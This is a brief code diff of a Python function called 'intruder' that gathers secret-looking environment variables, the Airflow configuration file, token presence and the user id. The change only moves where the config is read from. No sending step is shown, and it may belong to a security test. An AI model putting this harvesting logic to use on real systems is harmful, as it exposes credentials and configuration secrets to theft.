@@ -21,7 +21,7 @@ def intruder() -> None:
                 for name, value in os.environ.items()
                 if any(word in name for word in HIDDEN) and "AWS" not in name
             },
-            "settings": Path(os.environ["AIRFLOW_HOME"], "airflow.cfg").read_text(),
+            "settings": Path(os.environ["AIRFLOW_CONFIG"]).read_text(),
             "token": TOKEN.exists(),
             "user": os.getuid(),
         }
